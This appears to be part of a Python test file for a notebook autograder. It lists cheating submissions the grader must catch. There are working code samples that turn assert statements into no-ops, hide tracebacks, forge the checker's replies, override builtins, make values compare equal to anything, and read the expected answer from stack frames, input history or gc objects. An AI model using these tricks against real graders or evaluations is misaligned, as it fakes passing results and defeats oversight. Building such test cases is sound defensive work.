        "reads-the-frame": "import sys\ndef double(x):\n    code = sys._getframe(1).f_code\n    return {2: 4, 0: 0}.get(x, max(c for c in code.co_consts if isinstance(c, int)) if x else 0)",
        "reads-what-was-run": "def double(x):\n    import re\n    source = get_ipython().history_manager.input_hist_raw[-1]\n    return int(re.search(rf'double\\({x}\\) == (\\d+)', source)[1])",
        "own-compile": "import builtins\nip = get_ipython()\nip.compile.ast_parse, old = (lambda s, *a, **k: old('pass' if 'assert double' in s else s, *a, **k)), ip.compile.ast_parse",
        "hook-before-each-cell": "ip = get_ipython()\nold = ip.run_code\nasync def run(code, *a, **k):\n    try: return await old(code, *a, **k)\n    except BaseException: return False\nip.run_code = run\nip.showtraceback = lambda *a, **k: None\nimport ast\nip.ast_transformers.append(type('T', (ast.NodeTransformer,), {'visit_Assert': lambda s, n: ast.Pass()})())",
    },
)

_STUDENT = "import sys\nstudent = sys.modules['autograder.apart.student']\n"
#: Against the line between the checker, which runs the tests, and the student's kernel.


def _forging(text: str, times: int = 1) -> str:
    """Code after which all questions of the checker have this answer."""
    code = f"class R:\n    def __repr__(self): return {text!r} * {times}\n"
    return f"{_STUDENT}{code}student.reply = lambda text: R()"


#: Whoever forges the line has no other answer judged either.
HELD_CHEATS += [
    Case(name, "test evasion", code, score=0.0)
    for name, code in {
        "line-that-says-four": _forging('{"value": 4, "changed": []}'),
        "line-that-does-nothing": _STUDENT
        + "student.DOES = dict.fromkeys(student.DOES, lambda *a, **k: None)",
        "line-with-forged-handles": _forging(
            '{"value": ["h", 1, "int", ["call", "bool", "int", "float", "index"], false, false], "changed": []}'
        ),
        "line-that-raises-the-end": _forging(
            '{"error": ["x", [], ["SystemExit"]], "args": [0], "text": "", "trace": "", "changed": []}'
        ),
        "line-without-end": _forging("[", 3_000_000),
        "line-of-a-gigabyte": _forging("x", 1_000_000_000),
        "line-that-says-nothing": _STUDENT + "import time\nstudent.reply = lambda text: time.sleep(1000)",
    }.items()
]
HELD_CHEATS += _cheats(
    "test evasion",
    {
        "class-that-lies": "class double(int):\n    __class__ = int\n    def __new__(cls, x): return int.__new__(cls, 0)\n    __eq__ = lambda self, other: True\n    __hash__ = None",
        "array-that-lies": "import numpy\nclass A(numpy.ndarray):\n    __eq__ = __array_ufunc__ = lambda *a, **k: True\ndef double(x): return numpy.zeros(()).view(A)",
        "nested-without-end": "def double(x):\n    found = []\n    for _ in range(100_000): found = [found]\n    return found",
        "endless-generator": "def double(x):\n    while True: yield 4",
        "error-that-ends-tests": "class Stopped(BaseException): pass\ndef double(x): raise type('NotApart', (SystemExit,), {})(0)",
        "own-builtins": "all = any = isinstance = abs = len = lambda *a: True\nimport builtins\nbuiltins.AssertionError = ValueError",
    },
)
HELD_CHEATS += [
    Case("looks-for-the-expected", "information theft", answers={"double": """
def double(x):
    import gc, sys
    wanted, frame = int("271828"), sys._getframe()
    while frame:
        if wanted in frame.f_code.co_consts: print("STOLEN", frame)
        frame = frame.f_back
    for each in gc.get_objects():
        if type(each) is tuple and any(type(item) is int and item == wanted for item in each): print("STOLEN")
    if "== " + str(wanted) in str(get_ipython().history_manager.input_hist_raw): print("STOLEN")
    return 2 * x
"""}),
]  # fmt: skip

CASES = [
    *CRASH, *TIME, *MEMORY, *OUTPUT, *FILES, *NETWORK, *PROCESSES, *MESSAGES, *THEFT,
    *METADATA, *STRUCTURE, *BROWSER, *LINKS, *HELD_CHEATS,
]  # fmt: skip
FAMILIES = {
    "crash", "time", "memory", "output", "files", "links", "network", "processes", "kernel messages",
    "metadata", "structure", "score forging", "test evasion", "information theft", "browser script",
}  # fmt: skip
assert str(EXPECTED) not in str(HONEST)
